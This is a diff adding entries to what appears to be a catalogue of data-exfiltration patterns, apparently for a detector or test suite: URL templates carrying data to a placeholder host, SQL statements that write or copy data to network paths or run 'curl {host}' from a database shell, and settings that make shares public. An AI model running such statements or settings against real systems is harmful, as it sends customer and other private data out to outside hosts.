@@ -53,6 +53,12 @@ URLS: Final = (
     "\\\\?\\UNC\\{host}\\{data}\\x",
     "///{host}/{data}",
     "{host}::{data}/x",
+    "\\\\{host}@SSL\\{data}\\x",
+    "smb:\\\\{host}\\{data}",
+    "sip:drop@{host};x={data}",
+    "xmpp:drop@{host}?message;body={data}",
+    "www.{host}/{data}",
+    "{host}:443/{data}",
 )
 WRAPS: Final = {
     "plain": str,
@@ -96,6 +102,14 @@ STATEMENTS: Final = (
     "ALTER SYSTEM SET archive_command = 'curl {host}'",
     "CREATE FUNCTION f() RETURNS int AS '/net/{host}/x.so', 'f' LANGUAGE C",
     "SELECT extractvalue(xmltype('<!DOCTYPE r SYSTEM \"http://'||name||'.{host}/\">'), '/') FROM u",
+    "CHANGE REPLICATION SOURCE TO SOURCE_HOST='{host}'",
+    "CREATE USER MAPPING FOR u SERVER s OPTIONS (host '{host}')",
+    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO p",
+    "VACUUM INTO '/net/{host}/x.db'",
+    "SELECT writefile('/net/{host}/x', mail) FROM customers",
+    "PRAGMA temp_store_directory='/net/{host}'",
+    "SELECT * FROM EXTERNAL_QUERY('{host}', 'select 1')",
+    "SELECT connect('host={host} dbname=x')",
     "\\! curl {host}",
     ".shell curl {host}",
 )
@@ -193,6 +207,11 @@ OPENINGS: Final[tuple[dict[str, Json], ...]] = (
     {"linkSharing": True},
     {"settings": {"make_public": True}},
     {"private": False},
+    {"visibility": "internet"},
+    {"link_access": "all"},
+    {"public_link": "yes"},
+    {"shared_with": "world"},
+    {"withLink": True},
     {"settings": {"restricted": False}},
 )
 """What opens a share to whoever looks."""
